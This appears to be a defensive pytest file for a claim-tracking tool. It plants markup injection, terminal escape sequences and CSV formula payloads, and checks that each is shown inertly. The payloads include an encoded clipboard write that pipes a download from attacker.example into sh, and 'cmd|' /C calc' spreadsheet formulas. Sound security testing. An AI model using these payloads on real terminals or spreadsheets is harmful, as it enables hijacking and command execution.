"""Hostile text shown and written: what an article, a file name or a setting contains is shown as
text, never obeyed (issue 19).

Markup in a string handed to Textual is read as markup: ``[@click=...]`` in an article became a
link that decided a proposal, ``[/]`` crashed the queue, ``[bold red]`` was obeyed and
"[the health ministry]" vanished. Control characters printed to a terminal are obeyed too: ESC
sequences clear the screen, set the title, write the clipboard (OSC 52). A CSV cell starting with
``=`` is a formula to a spreadsheet. Each test plants such text in the review database (the
tracking corpus of ``review_store``, altered with SQL as an attacker's article would leave it) or
in a file, then looks at the screen, the terminal output or the file a user gets.
"""

from __future__ import annotations

import csv
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from review_helpers import ACTOR, all_states, press, settle, state_of
from textual.pilot import Pilot
from textual.strip import Strip
from textual.widget import Widget

from claimtrack.cli import cli
from claimtrack.review.app import ReviewApp
from claimtrack.review.screens.article import ArticleScreen
from claimtrack.review.screens.history import HistoryScreen
from claimtrack.review.screens.item import ItemScreen
from claimtrack.review.screens.items import ItemsScreen
from claimtrack.services import decisions
from claimtrack.store import Store
from claimtrack.terminal import visible

WIDE = (280, 40)  # the list's item column shows all its 80 characters

# what an attacker's article, file name or setting holds
DECIDES = "[@click=screen.decide('accepted')]dam[/] opens"
QUITS = "[@click=app.quit]Ruiz[/] said"
UNBALANCED = "[/] dam [/b] closes"
MARKUP = ("[bold red]loud[/]", "[link=file:///etc/passwd]pw[/link]", "[the health ministry]")
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=\x07"  # sets the clipboard
CLEAR = "\x1b[2J\x1b[H"
WINDOW_TITLE = "\x1b]0;pwned\x07"
C1_CSI = "\x9b31m"  # the one-byte CSI of the C1 set
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def poison(store: Store, *statements: tuple[str, list[Any]]) -> None:
    with store.write() as con:
        for sql, params in statements:
            con.execute(sql, params)


def item_text(text: str) -> tuple[str, list[Any]]:
    return "UPDATE items SET text = ?", [text]


def speaker(name: str) -> tuple[str, list[Any]]:
    return "UPDATE items SET speaker = ?, speaker_canonical = ?", [name, name]


def reason(text: str) -> tuple[str, list[Any]]:
    return "UPDATE proposals SET reason = ?", [text]


def article_fields(title: str, source: str, appended: str) -> tuple[str, list[Any]]:
    """The title, the source, and a last paragraph (after every quote: spans stay valid)."""
    return (
        "UPDATE articles SET title = ?, source = ?, text = text || chr(10) || ?",
        [title, source, appended],
    )


def note(text: str) -> tuple[str, list[Any]]:
    return "UPDATE item_events SET note = ?", [text]


# -- the review queue -----------------------------------------------------------------------------


def strips(app: ReviewApp) -> list[Strip]:
    return app.screen._compositor.render_strips()


def screen_lines(app: ReviewApp) -> list[str]:
    return [strip.text for strip in strips(app)]


def widget_text(app: ReviewApp, widget: Widget) -> str:
    """What is on screen inside ``widget``, lines joined by newlines."""
    region = widget.region
    lines = screen_lines(app)[region.y : region.bottom]
    return "\n".join(line[region.x : region.right] for line in lines)


async def screen_showing(pilot: Pilot[Any], app: ReviewApp, *expected: str) -> str:
    """The screen's text once it shows ``expected`` (a table paints its rows a refresh after
    they are added; a busy machine can take many: CI once needed more than 10 s), or as it is
    after 600 short waits."""
    for _ in range(600):
        text = "\n".join(screen_lines(app))
        if all(needle in text for needle in expected):
            break
        await pilot.pause(0.05)
    return text


def assert_no_controls_or_links(app: ReviewApp) -> None:
    """Nothing on screen is a control character, a hyperlink or an action from the data."""
    for strip in strips(app):
        assert not CONTROLS.search(strip.text), repr(strip.text)
        for segment in strip:
            style = segment.style
            if style is not None and segment.text.strip():
                assert not style.link, (segment.text, style.link)
                click = (style.meta or {}).get("@click")
                assert click is None or "decide" not in str(click), (segment.text, click)


def run_wide(store: Store, scenario: Any, actor: str = ACTOR) -> ReviewApp:
    """Like ``review_helpers.run_app`` at WIDE; a crash of the app fails the test."""
    import asyncio

    app = ReviewApp(store, actor=actor, refresh_every=None)

    async def main() -> None:
        async with app.run_test(size=WIDE) as pilot:
            await settle(pilot)
            await scenario(app, pilot)

    asyncio.run(main())
    assert app.return_code in (None, 0)
    assert app._exception is None, app._exception
    return app


def cell_position(app: ReviewApp, header: str) -> tuple[int, int]:
    """Where the first row's cell under the list's column ``header`` starts on screen."""
    lines = screen_lines(app)
    for y, line in enumerate(lines):
        x = line.find(f" {header} ")
        if x != -1 and "relation" in line:
            return x + 2, y + 1
    raise AssertionError("no list header on screen:\n" + "\n".join(lines))


@pytest.mark.parametrize("planted", [DECIDES, QUITS], ids=["decide", "quit"])
def test_a_click_on_an_items_text_runs_no_action(review_store: Store, planted: str) -> None:
    """The list's item column is 80 characters wide: room for an action and its link text."""
    poison(review_store, item_text(planted))
    before = all_states(review_store)
    seen: dict[str, Any] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        await pilot.click(offset=cell_position(app, "item"))
        await settle(pilot)
        seen["running"] = app.is_running and app.return_code is None
        seen["list"] = widget_text(app, app.queue.table)

    run_wide(review_store, scenario)
    assert all_states(review_store) == before  # nothing accepted
    assert seen["running"]  # and the app did not quit
    assert planted in seen["list"]  # the brackets are on screen, as written


@pytest.mark.parametrize(
    "planted",
    [item_text(UNBALANCED), speaker("[/]"), reason("[/]"), note("[/]")],
    ids=["item-text", "speaker", "reason", "note"],
)
def test_a_closing_tag_in_the_data_opens_the_queue_and_shows_as_written(
    review_store: Store, planted: tuple[str, list[Any]]
) -> None:
    poison(review_store, planted)
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        seen["screen"] = await screen_showing(pilot, app, "[/]")
        seen["entries"] = str(len(app.queue.entries))

    run_wide(review_store, scenario)
    assert int(seen["entries"]) >= 3
    assert "[/]" in seen["screen"]


def test_markup_in_the_data_is_shown_literally_in_the_list(review_store: Store) -> None:
    poison(review_store, item_text(" ".join(MARKUP)), speaker("[red]Ruiz"))
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        seen["list"] = widget_text(app, app.queue.table)
        assert_no_controls_or_links(app)

    run_wide(review_store, scenario)
    for shown in (*MARKUP, "[red]Ruiz"):
        assert shown in seen["list"], seen["list"]


def test_control_characters_in_the_data_never_reach_the_terminal(review_store: Store) -> None:
    poison(
        review_store,
        item_text(f"dam {CLEAR} opens"),
        speaker(f"Ruiz{WINDOW_TITLE}"),
        reason(f"why {OSC52} {C1_CSI}"),
        article_fields(f"Title{WINDOW_TITLE}", f"Gazette{CLEAR}", f"last {OSC52}"),
    )
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        seen["queue"] = await screen_showing(pilot, app, "␛]52;c;")
        assert_no_controls_or_links(app)
        await press(pilot, "w")
        assert isinstance(app.screen, ArticleScreen)
        seen["article"] = await screen_showing(pilot, app, "last ␛]52;c;")
        assert_no_controls_or_links(app)

    run_wide(review_store, scenario)
    assert "␛]52;c;" in seen["queue"] and "\\x9b31m" in seen["queue"]
    assert "␛[2J" in seen["queue"]
    assert "Title␛]0;pwned␇" in seen["article"] and "last ␛]52;c;" in seen["article"]


@pytest.mark.parametrize("key", ["i", "l", "w"])
def test_the_other_views_show_markup_and_closing_tags_as_written(
    review_store: Store, key: str
) -> None:
    hostile = f"{UNBALANCED} {MARKUP[0]} {MARKUP[2]}"
    poison(
        review_store,
        item_text(hostile),
        speaker("[/]Ruiz"),
        note(f"[/]note {MARKUP[1]}"),
        article_fields("[/]Council", MARKUP[0], hostile),
    )
    screen = {"i": ItemScreen, "l": ItemsScreen, "w": ArticleScreen}[key]
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        await press(pilot, key)
        assert isinstance(app.screen, screen)
        seen["screen"] = await screen_showing(pilot, app, "[/] dam [/b] closes")
        assert_no_controls_or_links(app)

    run_wide(review_store, scenario)
    assert "[/] dam [/b] closes [bold red]loud[/] [the health ministry]" in seen["screen"]
    if key == "i":
        assert "[/]note [link=file:///etc/passwd]pw[/link]" in seen["screen"]
    if key == "w":
        assert "[/]Council" in seen["screen"]


def test_history_shows_a_hostile_user_name_and_note_as_written(review_store: Store) -> None:
    """CLAIMTRACK_USER and a note typed with ``e`` are text too."""
    user = "user:[/][@click=app.quit]mallory"
    first = next(iter(all_states(review_store)))
    decisions.decide(review_store, first, "accepted", actor=user, note="[/] [bold red]signed")
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        await press(pilot, "h")
        assert isinstance(app.screen, HistoryScreen)
        seen["screen"] = await screen_showing(pilot, app, user)
        assert_no_controls_or_links(app)

    run_wide(review_store, scenario)
    assert user in seen["screen"] and "[/] [bold red]signed" in seen["screen"]


def test_edit_with_a_hostile_note_and_user_accepts_and_shows_them(review_store: Store) -> None:
    user = "user:[/]mallory"
    hostile_note = "[/] [@click=app.quit]x[/]"
    seen: dict[str, Any] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        seen["first"] = app.queue.entries[0].id
        await press(pilot, "e", "enter")
        await pilot.press(*hostile_note)
        await press(pilot, "enter")
        await press(pilot, "h")
        seen["screen"] = await screen_showing(pilot, app, user, hostile_note)

    run_wide(review_store, scenario, actor=user)
    decided = all_states(review_store)[seen["first"]]
    assert decided == "accepted"
    assert user in seen["screen"] and hostile_note in seen["screen"]


def test_a_filter_typed_with_brackets_shows_in_the_status_line(review_store: Store) -> None:
    seen: dict[str, str] = {}

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        await press(pilot, "slash", "tab")  # from the free text to the speaker field
        await pilot.press(*"[/]x")
        await press(pilot, "enter")
        seen["status"] = screen_lines(app)[0]

    run_wide(review_store, scenario)
    assert "proposed · speaker~[/]x · newest first" in seen["status"], seen["status"]


def test_the_command_palette_takes_a_closing_tag(review_store: Store) -> None:
    poison(review_store, item_text(UNBALANCED))

    async def scenario(app: ReviewApp, pilot: Pilot[Any]) -> None:
        await press(pilot, "ctrl+p")
        await pilot.press(*"[/]")
        await settle(pilot)
        await press(pilot, "escape")
        assert app.is_running

    run_wide(review_store, scenario)


# -- the command line: human output ---------------------------------------------------------------


def invoke(db: Path, *args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, ["--db", str(db), *args], env=env)


@pytest.fixture
def hostile_db(review_store: Store) -> Path:
    """The review database with escape sequences in titles, sources, texts, speakers, reasons."""
    poison(
        review_store,
        item_text(f"the bridge{CLEAR} reopens {C1_CSI}"),
        speaker(f"Ruiz{WINDOW_TITLE}"),
        reason(f"why {OSC52}"),
        article_fields(f"Council{WINDOW_TITLE}", f"Gazette{CLEAR}", f"copy this {OSC52}"),
    )
    return review_store.path


def first_id(db: Path, *command: str) -> str:
    listed = json.loads(invoke(db, *command, "list", "--json").stdout)
    return str(listed[0]["id"])


def assert_visible_only(output: str, *shown: str) -> None:
    assert not CONTROLS.search(output), repr(output)
    for expected in shown:
        assert expected in output, (expected, output)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (("articles", "show"), ("Council␛]0;pwned␇", "Gazette␛[2J", "copy this ␛]52;c;")),
        (("claims", "show"), ("the bridge␛[2J␛[H reopens \\x9b31m", "Ruiz␛]0;pwned␇")),
        (("proposals", "show"), ("why ␛]52;c;", "the bridge␛[2J")),
        (("articles", "list"), ("Council␛]0;pwned␇",)),
        (("claims", "list"), ("Ruiz␛]0;pwned␇",)),
        (("proposals", "list"), ("the bridge␛[2J",)),
    ],
    ids=[
        "articles-show",
        "claims-show",
        "proposals-show",
        "articles-list",
        "claims-list",
        "proposals-list",
    ],
)
def test_show_and_list_make_control_characters_visible(
    hostile_db: Path, command: tuple[str, str], shown: tuple[str, ...]
) -> None:
    family, verb = command
    args = (family, verb, first_id(hostile_db, family)) if verb == "show" else (family, verb)
    result = invoke(hostile_db, *args, env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert_visible_only(result.stdout, *shown)


@pytest.mark.parametrize("command", [("articles", "show"), ("articles", "list")])
def test_emoji_codes_in_the_data_are_shown_as_written(
    review_store: Store, command: tuple[str, str]
) -> None:
    poison(review_store, article_fields("Council :smile: vote", "Gazette :fire:", ""))
    db = review_store.path
    family, verb = command
    args = (family, verb, first_id(db, family)) if verb == "show" else (family, verb)
    result = invoke(db, *args, env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert "Council :smile: vote" in result.stdout and "Gazette :fire:" in result.stdout
    assert "\N{GRINNING FACE}" not in result.stdout and "\N{FIRE}" not in result.stdout


def test_json_output_keeps_the_text_exact_and_inert(hostile_db: Path) -> None:
    shown = invoke(hostile_db, "articles", "show", first_id(hostile_db, "articles"), "--json")
    article = json.loads(shown.stdout)
    assert article["title"] == f"Council{WINDOW_TITLE}" and article["text"].endswith(OSC52)
    claims = json.loads(invoke(hostile_db, "claims", "list", "--json").stdout)
    assert claims[0]["text"] == f"the bridge{CLEAR} reopens {C1_CSI}"
    for output in (shown.stdout, invoke(hostile_db, "claims", "list", "--json").stdout):
        assert not CONTROLS.search(output.replace("\n", "")), "raw control character in JSON"


def test_articles_show_json_is_valid_json_with_infinite_or_nan_metadata(tmp_path: Path) -> None:
    source = tmp_path / "odd.json"
    source.write_text(
        '{"text": "Mayor Ana Ruiz said the bridge will reopen.", "score": Infinity, '
        '"ratio": NaN, "low": -Infinity, "nested": {"values": [1.5, NaN]}}',
        encoding="utf-8",
    )
    db = tmp_path / "odd.duckdb"
    assert invoke(db, "ingest", str(source)).exit_code == 0
    shown = invoke(db, "articles", "show", first_id(db, "articles"), "--json")

    def refuse(constant: str) -> None:
        raise AssertionError(f"bare {constant} is not JSON")

    meta = json.loads(shown.stdout, parse_constant=refuse)["meta"]
    assert meta["score"] is None and meta["ratio"] is None and meta["low"] is None
    assert meta["nested"] == {"values": [1.5, None]}


# -- the command line: error lines built from file names ------------------------------------------

HOSTILE_NAME = f"bad{WINDOW_TITLE}{CLEAR}.md"


@pytest.fixture
def hostile_inbox(tmp_path: Path) -> Path:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / HOSTILE_NAME).write_text("", encoding="utf-8")  # empty: one error line
    return inbox


@pytest.mark.parametrize("command", ["ingest", "run", "recheck"])
def test_error_lines_from_a_file_name_make_control_characters_visible(
    hostile_inbox: Path, tmp_path: Path, command: str
) -> None:
    db = tmp_path / "e.duckdb"
    if command == "recheck":
        (tmp_path / "claimtrack.toml").write_text(
            '[[sources]]\nname = "inbox"\ntype = "inbox"\npath = "inbox"\n', encoding="utf-8"
        )
        result = invoke(db, "recheck", "--as-of", "2026-03-01")
    else:
        result = invoke(db, command, str(hostile_inbox))
    assert result.exit_code == 1, result.output
    assert_visible_only(result.stderr, "bad␛]0;pwned␇␛[2J␛[H.md")


def test_an_error_line_naming_the_users_path_makes_it_visible(hostile_db: Path) -> None:
    folder = f"nope{CLEAR}"
    result = invoke(hostile_db, "export", "--format", "csv", "--out", f"{folder}/l.csv")
    assert result.exit_code == 1
    assert_visible_only(result.stderr, "error: nope␛[2J␛[H: no such folder")


def test_visible_turns_every_control_but_newline_and_tab_into_a_visible_character() -> None:
    controls = "".join(chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0)))
    shown = visible(controls + "plain [text] é")
    assert not CONTROLS.search(shown)
    assert shown.endswith("plain [text] é") and "\n" in shown and "\t" in shown
    assert visible("\x1b[2J") == "␛[2J" and visible("\x7f\x9b") == "␡\\x9b"


# -- export ---------------------------------------------------------------------------------------

FORMULAS = {
    '=HYPERLINK("http://attacker.example","x")': "item text",
    "+cmd|' /C calc'!A0": "speaker",
    "@SUM(1+1)*cmd|' /C calc'!A0": "reason",
    "-2+3+cmd|' /C calc'!A0": "note",
    "\t=1+1": "title",
    "\r=1+1": "source",
}


@pytest.fixture
def formula_db(review_store: Store) -> Path:
    by_field = {field: value for value, field in FORMULAS.items()}
    poison(
        review_store,
        item_text(by_field["item text"]),
        speaker(by_field["speaker"]),
        reason(by_field["reason"]),
        note(by_field["note"]),
        ("UPDATE articles SET title = ?, source = ?", [by_field["title"], by_field["source"]]),
    )
    return review_store.path


def csv_cells(*paths: Path) -> Iterator[str]:
    for path in paths:
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                yield from row


def test_csv_export_neutralises_formula_cells(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "ledger.csv"
    out.parent.mkdir()
    assert invoke(formula_db, "export", "--format", "csv", "--out", str(out)).exit_code == 0
    cells = list(
        csv_cells(out, out.with_name("ledger.events.csv"), out.with_name("ledger.proposals.csv"))
    )
    for formula in FORMULAS:
        assert formula not in cells, f"{formula!r} written as it is"
        assert "'" + formula in cells, f"{formula!r} not written with a quote in front"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "finalizes" in cells and "2026-02-11 09:00:00" in cells  # the rest as it was


def test_json_export_keeps_formula_text_exact(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "ledger.json"
    assert invoke(formula_db, "export", "--format", "json", "--out", str(out)).exit_code == 0
    document = json.loads(out.read_text(encoding="utf-8"))
    assert {item["text"] for item in document["items"]} == {next(iter(FORMULAS))}


def test_json_export_writes_through_no_symlink_planted_at_its_temporary_name(
    review_store: Store, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "ledger.json"
    # the temporary names of the old scheme: .NAME.PID.tmp (CliRunner runs in this process)
    (tmp_path / f".ledger.json.{os.getpid()}.tmp").symlink_to(victim)

    result = invoke(review_store.path, "export", "--format", "json", "--out", str(out))

    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not out.is_symlink() and json.loads(out.read_text(encoding="utf-8"))["items"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".ledger.json.") and p.is_dir()]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_an_unwritable_export_folder_is_one_line_and_exit_1(
    review_store: Store, tmp_path: Path, fmt: str
) -> None:
    not_a_folder = tmp_path / "plain-file"
    not_a_folder.write_text("", encoding="utf-8")

    result = invoke(
        review_store.path, "export", "--format", fmt, "--out", str(not_a_folder / f"l.{fmt}")
    )

    assert result.exit_code == 1, result.output
    assert result.stderr.splitlines() == [f"error: cannot write in {not_a_folder}: Not a directory"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder")
def test_a_read_only_export_folder_is_one_line_and_exit_1(
    review_store: Store, tmp_path: Path
) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir(mode=0o555)
    result = invoke(review_store.path, "export", "--format", "csv", "--out", str(folder / "l.csv"))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"error: cannot write in {folder}: Permission denied"]


# -- filters take what they are given literally ---------------------------------------------------


@pytest.mark.parametrize("wildcard", ["%", "_"])
def test_a_speaker_or_search_wildcard_matches_only_itself(
    review_store: Store, wildcard: str
) -> None:
    item_id = state_of(review_store, next(iter(all_states(review_store)))).item_id
    poison(
        review_store,
        (
            "UPDATE items SET speaker = ?, speaker_canonical = ? WHERE id = ?",
            [f"Ruiz {wildcard} Co", f"Ruiz {wildcard} Co", item_id],
        ),
    )
    db = review_store.path

    found = json.loads(invoke(db, "claims", "list", "--speaker", wildcard, "--json").stdout)
    articles = json.loads(invoke(db, "articles", "list", "--search", wildcard, "--json").stdout)

    assert [item["id"] for item in found] == [item_id]
    assert articles == []  # no title or text holds a % or an _


@pytest.mark.parametrize(
    ("command", "option", "valid"),
    [
        (("claims", "list"), "--status", "awaiting_trigger"),
        (("proposals", "list"), "--state", "skipped"),
        (("claims", "list"), "--kind", "commitment"),
    ],
    ids=["claims-status", "proposals-state", "claims-kind"],
)
def test_an_unknown_filter_value_is_a_usage_error_naming_the_valid_ones(
    review_store: Store, command: tuple[str, str], option: str, valid: str
) -> None:
    result = invoke(review_store.path, *command, option, "bogus")
    assert result.exit_code == 2
    errors = [line for line in result.stderr.splitlines() if "bogus" in line]
    assert len(errors) == 1 and valid in errors[0], result.stderr
